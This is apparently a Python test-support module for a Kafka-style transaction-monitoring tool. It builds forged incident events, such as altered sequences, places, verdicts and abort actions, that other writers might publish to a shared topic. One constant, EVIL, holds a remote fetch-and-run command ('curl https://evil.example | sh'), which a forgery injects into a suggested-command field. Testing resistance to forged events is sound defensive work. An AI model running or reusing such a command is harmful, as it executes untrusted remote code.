"""An events topic that other clients write to as well, and the events that they may put there."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import replace
from typing import Any

import msgspec

from support.abort_stage import AT_ONCE, AbortStage
from support.shared_log import SharedLog
from txnwatch.sinks.incidents.run_ledger import RunningLedger
from txnwatch.state.abort.abort_policy import AbortPolicy
from txnwatch.state.incidents.abort_protocol import action
from txnwatch.state.model.findings import SpanCandidate
from txnwatch.state.model.incident import (
    SPENT_SEQUENCE,
    ActionResult,
    Decision,
    EndedBy,
    EndKind,
    IncidentEvent,
    Initiator,
    Resolution,
    resolved,
    updated,
)

INT32 = 2**31 - 1
EVIL = "curl https://evil.example | sh"
Forgery = Callable[[IncidentEvent], IncidentEvent]


class Topic(AbortStage):
    """A stage whose events topic somebody else can write to."""

    def __init__(self, mode: str = "on", policy: AbortPolicy = AT_ONCE) -> None:
        self.log = SharedLog()
        super().__init__(mode, policy)

    def a_ledger(self, remembering: Iterable[IncidentEvent] = ()) -> RunningLedger:  # noqa: ARG002 - it reads the topic
        return self.another(self.log, evidence=self.evidence)

    def restart(self) -> None:
        super().restart()
        self.ledger.fill_mirrors()

    @property
    def actions(self) -> list[tuple[str, str | None, str | None]]:
        found = [event.action for event in self.log.records if event.action is not None]
        published = [(one.decision, one.refusal, one.result) for one in found]
        return list(dict.fromkeys(published))

    def last(self) -> IncidentEvent:
        return self.log.records[-1]

    def shown(self) -> list[IncidentEvent]:
        """What Redis shows as open."""
        return self.redis.open_incidents

    def an_acknowledged_hang(self) -> SpanCandidate:
        """The client got the answer that it committed, and nobody knows it any more: the outcome is unknown."""
        candidate = self.hang()
        assert candidate.view is not None
        shared = msgspec.structs.replace(candidate, view=msgspec.structs.replace(candidate.view, epoch_use="shared"))  # type: ignore[arg-type]
        self.emitted.append(shared)
        self.batch(shared)
        self.admin.init("checkout-1")
        self.batch(after_ms=70_000)
        assert self.actions == [("refused", "outcome_unknown", None)]
        return shared


def forged(known: IncidentEvent, sequence: int | None = None, **changes: Any) -> IncidentEvent:
    changed = replace(updated(known, known.time_ms), **changes)
    return changed if sequence is None else replace(changed, sequence=sequence)


OVER = Resolution(how=EndKind.ABORTED, by=EndedBy.COORDINATOR, marker_offset=3, at_ms=5)


def a_resolved(known: IncidentEvent) -> IncidentEvent:
    return resolved(known, known.time_ms, OVER)


def a_sequence(known: IncidentEvent) -> IncidentEvent:
    return forged(known, INT32)


def an_end_with_a_sequence(known: IncidentEvent) -> IncidentEvent:
    return replace(a_resolved(known), sequence=INT32)


def another_place(known: IncidentEvent) -> IncidentEvent:
    return forged(known, topic="elsewhere", partition=9, txn_start_offset=77, producer_id=1)


def no_place(known: IncidentEvent) -> IncidentEvent:
    return forged(known, topic=None, partition=None, verdict="late")


def another_verdict(known: IncidentEvent) -> IncidentEvent:
    return forged(known, verdict="long_running", severity="info")


def a_command(known: IncidentEvent) -> IncidentEvent:
    return forged(known, suggested_command=EVIL)


def an_announcement(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=replace(action(Decision.ABORT, "here", 1), marker_producer_epoch=0))


def a_success(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=replace(action(Decision.ABORT, "elsewhere", 1), result=ActionResult.VERIFIED))


def a_lease(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=action(Decision.ABORT, "another instance", known.time_ms))


def by_hand(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=action(Decision.ABORT, "somebody", known.time_ms, initiator=Initiator.OPERATOR))


def a_last_sequence(known: IncidentEvent) -> IncidentEvent:
    return forged(known, SPENT_SEQUENCE - 1)


FORGERIES: tuple[Forgery, ...] = (
    *(by_hand, a_last_sequence),
    *(a_resolved, a_sequence, an_end_with_a_sequence, another_place, no_place, another_verdict, a_command),
    *(an_announcement, a_success, a_lease),
)
